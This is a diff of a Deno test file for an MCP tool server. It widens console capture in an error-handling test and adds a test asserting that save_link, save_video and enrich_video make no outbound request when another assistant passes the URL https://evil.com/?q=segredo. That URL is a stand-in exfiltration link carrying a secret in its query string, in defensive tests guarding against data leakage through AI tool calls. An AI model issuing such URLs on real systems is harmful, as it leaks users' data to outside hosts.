@@ -2,7 +2,9 @@ import { createClient, type SupabaseClient } from "@supabase/supabase-js";
 import { type CallToolResult, discoverOAuthProtectedResourceMetadata } from "@modelcontextprotocol/client";
 import assert from "node:assert/strict";
 import { sign } from "hono/jwt";
+import { createMcpApp } from "../../../shared/mcp/create-mcp-app.ts";
 import { Conversation } from "../../support/chat.ts";
+import { page, startFakeWeb } from "../../support/fake-web.ts";
 import { call, refusal } from "../../support/rpc.ts";
 import { type Stack, startStack, type TestUser } from "../../support/stack.ts";
 import { connect, mcpUrl, textOf } from "./client.ts";
@@ -283,8 +285,8 @@ Deno.test("what does not fit is mended or told in a sentence, and logged without
   const ana = await stack.createUser("Ana");
   const claude = await connect(stack, ana.token);
   const logged: unknown[][] = [];
-  const { error: log } = console;
-  console.error = (...line) => logged.push(line);
+  const console_ = { ...console };
+  for (const method of ["error", "warn", "info", "log"] as const) console[method] = (...line) => logged.push(line);
 
   await t.step("a tool that there is not: an error of the protocol", async () => {
     for (const name of ["drop_tables", "forget_everything", "get_person", "use_skill", "prepare_create_expense"]) {
@@ -339,12 +341,25 @@ Deno.test("what does not fit is mended or told in a sentence, and logged without
     }
   });
   await t.step("nothing of what was sent is in the log", () => {
-    console.error = log;
+    Object.assign(console, console_);
     assert.doesNotMatch(JSON.stringify(logged), /segredo|pão|Luz/);
   });
-  console.error = log;
+  Object.assign(console, console_);
   await claude.close();
   await stack.close();
+});
+
+Deno.test("an address that another assistant sends is read by nobody: it could carry away what was read", async () => {
+  const web = startFakeWeb({ "evil.com/": page("Evil") });
+  const stack = await startStack({ functions: { mcp: createMcpApp(web.network) } });
+  const claude = await connect(stack, (await stack.createUser("Ana")).token);
+  for (const name of ["save_link", "save_video", "enrich_video"]) {
+    await claude.callTool({ name, arguments: { url: "https://evil.com/?q=segredo" } });
+  }
+  assert.deepEqual(web.requests, []);
+  await claude.close();
+  await stack.close();
+  await web.close();
 });
 
 function headers(token: string): Record<string, string> {
